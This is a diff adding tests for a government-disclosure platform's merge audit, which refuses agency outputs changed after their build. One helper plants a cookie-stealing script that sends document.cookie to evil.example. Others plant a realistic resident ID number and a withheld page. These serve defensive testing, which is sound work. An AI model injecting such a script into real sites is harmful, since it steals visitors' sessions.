@@ -16,6 +16,8 @@ from playwright.sync_api import expect
 from conftest import DEMO_PARTS, REPO, copy_tree, edit, serve
 from disclosure.cli import main
 from disclosure.layout import document_kinds
+from disclosure.platform.agency import adopt
+from disclosure.platform.audit import AUDITED, record_audited
 from disclosure.platform.config import load_platform
 from disclosure.platform.search_merge import MergedFacet, facet_labels
 from disclosure.search.query import IndexReader
@@ -257,6 +259,97 @@ def test_the_agency_filter_keeps_one_agency(page, platform_url):
     expect(page.locator("[data-search-result]").first).to_contain_text("江岸市山阳县司法局")
     for text in page.locator(".search-result__kind").all_inner_texts():
         assert text.startswith("江岸市山阳县司法局")
+
+
+# -- the merged platform's output audit: an agency's output changed after its build -----------------
+ID_NUMBER = "11010519491231002X"  # a valid check character: reads as a real resident ID
+
+
+def rewrite(path: Path, old: str, new: str) -> None:
+    """A changed file as a new download or build writes it: a new file in its place (the published
+    platform links the old one)."""
+    text = path.read_text(encoding="utf-8")
+    assert old in text
+    path.unlink()
+    path.write_text(text.replace(old, new, 1), encoding="utf-8")
+
+
+def planted_withheld_page(site: Path) -> str:
+    """A page for jiangan's 依申请公开 document, made from one of its published pages, at the address
+    its build would have given it."""
+    page = next((site / "documents").glob("*/index.html")).read_text(encoding="utf-8")
+    target = site / "documents" / "2026-00090" / "index.html"
+    target.parent.mkdir()
+    target.write_text(page.replace("<h1", f"<h1 data-x>{AGENCY_MARKERS['依申请公开']}</h1><h1", 1), encoding="utf-8")
+    return "jiangan/documents/2026-00090/index.html"
+
+
+def injected_script(site: Path) -> str:
+    page = sorted((site / "documents").glob("*/index.html"))[-1]
+    rewrite(page, "</article>", "<script>fetch('//evil.example/'+document.cookie)</script></article>")
+    return f"linhe/{page.relative_to(site).as_posix()}"
+
+
+def id_number_in_a_page(site: Path) -> str:
+    page = site / "index.html"
+    rewrite(page, "</article>", f"<p>联系人 {ID_NUMBER[:6]} {ID_NUMBER[6:]}</p></article>")
+    return "shanyang/index.html"
+
+
+def extra_file(site: Path) -> str:
+    (site / "attachments").mkdir(exist_ok=True)
+    (site / "attachments" / "notes.txt").write_text("内部备忘", encoding="utf-8")
+    return "sft/attachments/notes.txt"
+
+
+def id_number_in_search_record(site: Path) -> str:
+    record = site / "search" / "data" / "r" / "0.json"
+    rewrite(record, '"t":"', f'"t":"{ID_NUMBER}')
+    return "linhe/search/data/r/0.json"  # and, merged, in the platform's index: named below
+
+
+TAMPERING = {  # agency id -> how its output is changed after its build
+    "jiangan": planted_withheld_page,
+    "linhe": injected_script,
+    "shanyang": id_number_in_a_page,
+    "sft": extra_file,
+}
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize("agency_id, tamper", [*TAMPERING.items(), ("linhe", id_number_in_search_record)], ids=lambda v: getattr(v, "__name__", v))
+def test_the_merge_audit_refuses_an_agency_output_changed_after_its_build(platform_repo, built, tmp_path, agency_id, tamper):
+    builds, out = tmp_path / "builds", tmp_path / "site-platform"
+    shutil.copytree(platform_repo / ".platform-builds", builds)  # copies, not links: the outputs above stay as built
+    merged = disclosure("platform", "merge", "--builds", str(builds), "--out", str(out), cwd=platform_repo)
+    assert merged.returncode == 0, merged.stderr
+    published = {p.relative_to(out).as_posix(): p.read_bytes() for p in out.rglob("*") if p.is_file()}
+    where = tamper(builds / agency_id / "site")
+    refused = disclosure("platform", "merge", "--builds", str(builds), "--out", str(out), cwd=platform_repo)
+    assert refused.returncode == 1
+    name = load_platform(platform_repo / "platform.yml")[0].agency(agency_id).name
+    assert "平台输出审计未通过" in refused.stderr and f"机关“{name}”（{agency_id}）的 {where}" in refused.stderr, refused.stderr
+    assert ("平台自身的 search/data/r/" in refused.stderr) == (tamper is id_number_in_search_record)
+    assert {p.relative_to(out).as_posix(): p.read_bytes() for p in out.rglob("*") if p.is_file()} == published  # the last good platform
+    assert not list(tmp_path.glob(".site-platform-*"))
+
+
+def test_an_output_from_elsewhere_is_read_again_by_the_audit(tmp_path):
+    """What passed the audit on the machine that built an agency says nothing of the files here."""
+    fresh = tmp_path / "fresh" / "agency-linhe"
+    (fresh / "site").mkdir(parents=True)
+    (fresh / "site" / "index.html").write_text("<p>页面</p>", encoding="utf-8")
+    (fresh / "manifest.json").write_text(json.dumps({"id": "linhe", "files": ["index.html"]}), encoding="utf-8")
+    record_audited(fresh, fresh / "site", ["index.html"])
+    assert adopt(tmp_path / "fresh", tmp_path / "builds") == ["linhe"]
+    assert (tmp_path / "builds" / "linhe" / "site" / "index.html").is_file()
+    assert not (tmp_path / "builds" / "linhe" / AUDITED).exists()
+
+
+@pytest.mark.slow
+def test_the_portal_pages_pass_the_audit_with_their_own_policy(platform_site):
+    for page in ("index.html", "search/index.html", "404.html"):
+        assert '<meta http-equiv="Content-Security-Policy"' in (platform_site / page).read_text(encoding="utf-8"), page
 
 
 # -- last: the merge step replaces the platform the tests above read ------------------------------
